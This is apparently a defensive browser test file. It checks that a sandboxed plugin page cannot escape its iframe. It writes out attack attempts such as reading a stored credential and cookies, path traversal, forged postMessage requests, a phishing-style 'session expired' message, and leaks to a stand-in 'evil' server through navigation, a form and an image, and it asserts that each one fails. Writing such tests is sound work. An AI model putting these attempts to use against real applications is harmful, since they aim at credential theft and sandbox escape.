import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startHost } from '../../support/host.ts'
import type { TestHost } from '../../support/host.ts'
import { startPlatformServer } from '../../support/platforms/http.ts'
import type { PlatformServer } from '../../support/platforms/http.ts'
import { pluginText, writePlugin } from '../../support/plugin-folder.ts'
import { accessibilityProblems } from './accessibility.ts'
import { builtPage, launchBrowser, openTab } from './browser.ts'
import type { BuiltPage } from './browser.ts'

const KEY = 'page-key-0123456789'
const asOwner = { authorization: `Bearer ${KEY}` }
const ATTACKS = '/pages/stranger/attacks/attacks.html'

const route = (method: string, path: string, effect: string, answer: string, more = ''): string =>
  `ctx.routes.add(defineRoute({ method: '${method}', path: '${path}', summary: 'A test', auth: 'bearer',
     effect: '${effect}', cost: 1, ${more} returns: v.any(), handle: async (input: any) => (${answer}) }))`
const documentOf = (title: string, script: string): string =>
  `<!doctype html><html lang="en"><title>${title}</title><link rel="stylesheet" href="../../kit/kit.css">
   <p id="problem" hidden></p><main><pre></pre></main><script type="module" src="${script}"></script></html>`
const show = "document.querySelector('pre').textContent = JSON.stringify(results)"

/** Each line is one attack, by name. What is `done` is what it got. */
const attacksOn = (evil: string): string => `
import { call } from '../../kit/kit.js'
const results = {}
const attack = async (name, work) => {
  try { results[name] = ['done', (await work()) ?? null] }
  catch (error) { results[name] = [error.name, error.status ?? 0] }
}
await attack('its own route', () => call('GET', '/api/stranger/sky?at=noon'))
await attack('its own change', () => call('POST', '/api/stranger/notes', { text: 'mine' }))
await attack('stored key', () => sessionStorage.getItem('svc.credential'))
await attack('stored device', () => localStorage.getItem('svc.remembered'))
await attack('cookies', () => document.cookie)
await attack('database', () => indexedDB.open('x').addEventListener('success', () => {}))
await attack('storage of the page', () => parent.sessionStorage.getItem('svc.credential'))
await attack('document of the page', () => parent.document.body.innerHTML)
await attack('script of the page', () => parent.eval('1'))
await attack('leaving', () => { top.location.href = '/?left' })
await attack('window', () => window.open('/') )
await attack('dialog', () => prompt('the key?'))
await attack('request', () => fetch('/api/agents').then((answer) => answer.json()))
await attack('module', () => import('/api/agents'))
await attack('code', () => Function('return 1')())
await attack('worker', () => new Promise((resolve, reject) => {
  const worker = new Worker('attacks.js')
  worker.addEventListener('message', resolve)
  worker.addEventListener('error', () => reject(new Error('refused')))
}))
await attack('socket', () => new Promise((resolve, reject) => {
  const socket = new WebSocket(location.href.replace(/^http/, 'ws'))
  socket.addEventListener('open', resolve)
  socket.addEventListener('error', () => reject(new Error('refused')))
}))
await attack('another route', () => call('GET', '/api/agents'))
await attack('another route, whose pattern is its own too', () => call('GET', '/api/status'))
await attack('another change', () => call('POST', '/api/agents', { manifest_toml: 'name = "evil"' }))
await attack('way up', () => call('GET', '/api/stranger/../agents'))
await attack('encoded way up', () => call('GET', '/api/stranger/%2e%2e/agents'))
await attack('two slashes', () => call('GET', '${evil}/api/stranger/sky'.slice(5)))
await attack('another host', () => call('GET', '${evil}/api/stranger/sky'))
await attack('another method', () => call('TRACE', '/api/stranger/sky'))
await attack('no path', () => call('GET', { toString: () => '/api/agents' }.path))
const ask = (message) => new Promise((resolve, reject) => {
  addEventListener('message', function answered({ data }) {
    if (data.id !== message.id) return
    removeEventListener('message', answered)
    if (data.error) reject(Object.assign(new Error(), data.error))
    else resolve(data.answer)
  })
  parent.postMessage(message, '*')
})
await attack('forged owner', () => ask({ id: 'a', method: 'GET', path: '/api/agents', plugin: 'agents', key: 'x' }))
await attack('forged headers', () => ask({ id: 'b', method: 'GET', path: '/api/agents', headers: { 'svc-plugin': 'agents' } }))
await attack('no message', () => { for (const text of [null, 7, 'x', [], {}]) parent.postMessage(text, '*') })
const inner = document.createElement('iframe')
inner.srcdoc = '<script src="/frames/stranger/attacks/inner.js"></script>'
document.body.append(inner)
await attack('frame in the frame', () => new Promise((resolve) => {
  addEventListener('message', ({ source, data }) => source === inner.contentWindow && resolve(data))
}))
await attack('its own route, after that', () => call('GET', '/api/stranger/sky'))
await attack('picture', () => new Promise((resolve, reject) => {
  const image = new Image()
  image.addEventListener('load', resolve)
  image.addEventListener('error', () => reject(new Error('refused')))
  image.src = '${evil}/picture.svg'
}))
await attack('WebRTC', () => new RTCPeerConnection())
await attack('WebRTC by its old name', () => new webkitRTCPeerConnection())
const blank = document.createElement('iframe')
document.body.append(blank)
await attack('WebRTC of an empty frame', () => new blank.contentWindow.RTCPeerConnection())
${show}
`
const inner = `top.postMessage({ id: 'inner', method: 'GET', path: '/api/stranger/inner' }, '*')
parent.postMessage(typeof RTCPeerConnection, '*')`
const leavingFor = (evil: string): string => `import { call } from '../../kit/kit.js'
const { sky } = await call('GET', '/api/stranger/sky')
if (sky === 'clear') location.href = '${evil}/?' + sky`
const formFor = (evil: string): string => `const form = document.createElement('form')
form.action = '${evil}/form'
document.body.append(form)
form.submit()`
const live = `import { byId, livePage } from '../../kit/kit.js'
import { call } from '../../kit/kit.js'
await livePage({ content: [], submit: 'Show', words: ['x'], everyMs: 60000, async load() {
  const results = await call('GET', '/api/stranger/sky?at=dawn'); ${show} } })()`

let built: BuiltPage
let browser: Browser
let host: TestHost
/** Another server, which nothing may reach. */
let evil: PlatformServer
let stolen = 0
beforeAll(async () => {
  ;[browser, built] = await Promise.all([launchBrowser(), builtPage()])
  evil = await startPlatformServer(() => {
    stolen++
    return { status: 200 }
  })
  host = await startHost({
    config: {
      api_key: KEY,
      pairing: { enabled: true },
      plugins: { webchat: { page_dir: built.folder }, watch: true, isolated: ['stranger'] },
    },
  })
  const folder = join(host.home, 'plugins', 'stranger')
  await mkdir(join(folder, 'page'), { recursive: true })
  const files = {
    'attacks.html': documentOf('Attacks', 'attacks.js'),
    'attacks.js': attacksOn(evil.origin),
    'inner.js': inner,
    'leaving.html': documentOf('Leaving', 'leaving.js'),
    'leaving.js': leavingFor(evil.origin),
    'form.html': documentOf('Form', 'form.js'),
    'form.js': formFor(evil.origin),
    'live.html': documentOf('Live', 'live.js').replace('<main>', '<span id="live"></span><main>'),
    'live.js': live,
  }
  for (const [name, text] of Object.entries(files)) await writeFile(join(folder, 'page', name), text)
  const page = (path: string, assets: string): string =>
    `{ path: '${path}', title: 'Its ${path}', group: 'Agents', file: 'page/${path}.html', assets: [${assets}] }`
  await writePlugin(
    folder,
    pluginText('stranger', {
      members: `uses: { routes: ['/api/*'] },
        pages: [${page('attacks', "'attacks.js', 'inner.js'")}, ${page('leaving', "'leaving.js'")}, ${page('form', "'form.js'")}, ${page('live', "'live.js'")}],`,
      setup: `${route('GET', '/api/stranger/sky', 'read', '{ sky: input.query.at ?? "clear" }', 'query: v.object({ at: v.optional(v.string()) }),')}
        ${route('POST', '/api/stranger/notes', 'lasting', '{ noted: input.body.text }', 'body: v.object({ text: v.string() }),')}
        ${route('POST', '/api/stranger/phishing', 'read', '(() => { throw new Refusal("forbidden", "Your session has expired") })()')}
        ${route('GET', '/api/:anything', 'read', '{ mine: true }', 'params: v.object({ anything: v.string() }),')}
        return {}`,
    }),
  )
  await host.plugin('stranger', 'loaded')
})
afterAll(async () => {
  await host?.[Symbol.asyncDispose]()
  await browser?.close()
  await evil?.[Symbol.asyncDispose]()
})

const signedInWith =
  (credential: object) =>
  async (page: Page): Promise<void> => {
    await page.addInitScript((kept) => {
      // Where the frame has no storage.
      if (self.origin !== 'null') sessionStorage.setItem('svc.credential', JSON.stringify(kept))
    }, credential)
  }
const withKey = signedInWith({ key: KEY })
const resultsOf = async (page: Page): Promise<Record<string, unknown>> => {
  const text = page.frameLocator('iframe').locator('pre:not(:empty)')
  return JSON.parse((await text.textContent()) ?? '') as Record<string, unknown>
}

describe('the page of a plugin in a process of its own', () => {
  it('reaches the routes of its plugin, and nothing else', async () => {
    const answered: string[] = []
    await using tab = await openTab(browser, host.url, {
      path: ATTACKS,
      before: async (page) => {
        await withKey(page)
        page.on('response', (response) => {
          const { pathname } = new URL(response.url())
          if (pathname.startsWith('/api/')) answered.push(`${response.status()} ${pathname}`)
        })
      },
    })
    const { page } = tab
    const nothing = 'ApiError'
    expect(await resultsOf(page)).toEqual({
      'its own route': ['done', { sky: 'noon' }],
      'its own change': ['done', { noted: 'mine' }],
      'stored key': ['SecurityError', 0],
      'stored device': ['SecurityError', 0],
      cookies: ['SecurityError', 0],
      database: ['SecurityError', 0],
      'storage of the page': ['SecurityError', 0],
      'document of the page': ['SecurityError', 0],
      'script of the page': ['SecurityError', 0],
      leaving: ['SecurityError', 0],
      window: ['done', null],
      dialog: ['done', null],
      request: ['TypeError', 0],
      module: ['TypeError', 0],
      code: ['EvalError', 0],
      worker: ['SecurityError', 0],
      socket: ['Error', 0],
      'another route': [nothing, 404],
      'another route, whose pattern is its own too': [nothing, 404],
      'another change': [nothing, 404],
      'way up': [nothing, 404],
      'encoded way up': [nothing, 404],
      'two slashes': [nothing, 400],
      'another host': [nothing, 400],
      'another method': [nothing, 400],
      'no path': [nothing, 400],
      'forged owner': ['Error', 404],
      'forged headers': ['Error', 404],
      'no message': ['done', null],
      'frame in the frame': ['done', 'undefined'],
      'its own route, after that': ['done', { sky: 'clear' }],
      picture: ['Error', 0],
      WebRTC: ['ReferenceError', 0],
      'WebRTC by its old name': ['ReferenceError', 0],
      'WebRTC of an empty frame': ['SecurityError', 0],
    })
    expect(page.url()).toBe(host.url + ATTACKS)
    expect(page.context().pages()).toHaveLength(1)
    expect(stolen).toBe(0)
    expect(new Set(answered.filter((line) => !line.includes('/api/pages')))).toEqual(
      new Set(['200 /api/stranger/sky', '200 /api/stranger/notes', '404 /api/agents', '404 /api/status']),
    )
    const { body: agents } = await host.json('GET', '/api/agents', undefined, asOwner)
    expect(agents.map(({ name }: { name: string }) => name)).not.toContain('evil')
  })

  it('is in the navigation, under its heading, inside of a page that says whose it is', async () => {
    await using tab = await openTab(browser, host.url, { path: '/pages/goals/goals/goals.html', before: withKey })
    const { page } = tab
    await page.getByRole('region', { name: 'Agents' }).getByRole('link', { name: 'Its live' }).click()
    expect(await resultsOf(page)).toEqual({ sky: 'dawn' })
    await page.getByRole('heading', { name: 'Its live', level: 1 }).waitFor()
    await page.getByText('This is a page of the plugin “stranger”').waitFor()
    expect(await page.getByRole('link', { name: 'Its live' }).getAttribute('aria-current')).toBe('page')
    // The look of the others.
    const body = page.frameLocator('iframe').locator('body')
    expect(await body.evaluate((element) => getComputedStyle(element).margin)).toBe('0px')
    expect(tab.complaints).toEqual([])
  })

  it.each([
    ['light', 1280],
    ['dark', 320],
  ] as const)('keeps WCAG 2.2 AA in the %s theme, %i pixels wide, inside and around', async (colorScheme, width) => {
    await using tab = await openTab(browser, host.url, {
      path: '/pages/stranger/live/live.html',
      before: withKey,
      colorScheme,
      viewport: { width, height: 800 },
    })
    await resultsOf(tab.page)
    for (const place of tab.page.frames()) expect(await accessibilityProblems(place)).toEqual([])
  })

  it.each(['leaving', 'form'])('takes nothing along when it leaves its frame: %s', async (name) => {
    const blocked = Promise.withResolvers<string>()
    await using tab = await openTab(browser, host.url, {
      path: `/pages/stranger/${name}/${name}.html`,
      before: async (page) => {
        await withKey(page)
        page.on('console', (message) => {
          if (message.text().includes(evil.origin)) blocked.resolve(message.text())
        })
      },
    })
    expect(await blocked.promise).toMatch(/Content Security Policy/)
    await tab.page.getByText('This is a page of the plugin').waitFor()
    expect(stolen).toBe(0)
  })

  it('asks for no key: the page around it does', async () => {
    await using tab = await openTab(browser, host.url, { path: '/pages/stranger/live/live.html' })
    const { page } = tab
    await page.getByLabel('API key').fill(KEY)
    expect(await page.locator('iframe').count()).toBe(0)
    await page.keyboard.press('Enter')
    expect(await resultsOf(page)).toEqual({ sky: 'dawn' })
  })

  it('chooses no words beside the field for the key', async () => {
    const { body: code } = await host.json('POST', '/api/pairing/request', undefined, asOwner)
    const { body: device } = await host.json('POST', '/api/pairing/complete', {
      pairing_code: code.pairing_code,
      display_name: 'A browser',
      platform: 'Linux',
    })
    await using tab = await openTab(browser, host.url, {
      path: '/pages/stranger/live/live.html',
      before: signedInWith({ key: device.api_key, device: device.device_id }),
    })
    const { page } = tab
    await resultsOf(page)
    await page.frames()[1]?.evaluate(() => {
      parent.postMessage({ id: 'x', method: 'POST', path: '/api/stranger/phishing' }, '*')
    })
    const dialog = page.getByRole('dialog', { name: 'This needs the API key' })
    await dialog.getByText('The plugin “stranger” refuses this to a paired device').waitFor()
    expect(await dialog.innerText()).not.toContain('expired')
  })

  it('is not heard when the message comes from another window', async () => {
    const asked: string[] = []
    await using tab = await openTab(browser, host.url, {
      path: '/pages/stranger/live/live.html',
      before: async (page) => {
        await withKey(page)
        page.on('request', (request) => asked.push(new URL(request.url()).pathname))
      },
    })
    await resultsOf(tab.page)
    await tab.page.evaluate(async () => {
      const { promise, resolve } = Promise.withResolvers<void>()
      addEventListener('message', ({ data }) => data === 'last' && resolve())
      postMessage({ id: 'x', method: 'GET', path: '/api/stranger/forged' }, '*')
      postMessage('last', '*')
      await promise
      await fetch('/api/health')
    })
    expect(asked).toContain('/api/health')
    expect(asked).not.toContain('/api/stranger/forged')
  })

  it('serves under the origin of the daemon nothing of its own, and in the frame without an origin', async () => {
    for (const name of ['attacks.js', 'inner.js'])
      expect((await host.fetch(`/pages/stranger/attacks/${name}`)).status).toBe(404)
    expect(await (await host.fetch(ATTACKS)).text()).toContain('/pages/kit/frame.js')
    for (const path of ['stranger/attacks/attacks.html', 'stranger/attacks/attacks.js', 'kit/kit.js', 'kit/kit.css']) {
      const { status, headers } = await host.fetch(`/frames/${path}`)
      expect(status).toBe(200)
      expect(headers.get('content-security-policy')).toMatch(
        /^sandbox allow-scripts allow-forms; default-src 'none'.*; frame-ancestors 'self'$/,
      )
      expect(headers.get('x-frame-options')).toBe('SAMEORIGIN')
    }
  })

  it.each([
    ['a page of a plugin that is trusted', 'pairing/devices/devices.html'],
    ['what is not declared', 'stranger/attacks/live.js'],
    ['the code of the plugin', 'stranger/attacks/..%2findex.ts'],
    ['what pages do not share', 'kit/frame.html'],
  ])('is not %s', async (_what, path) => {
    expect((await host.fetch(`/frames/${path}`)).status).toBe(404)
  })
})
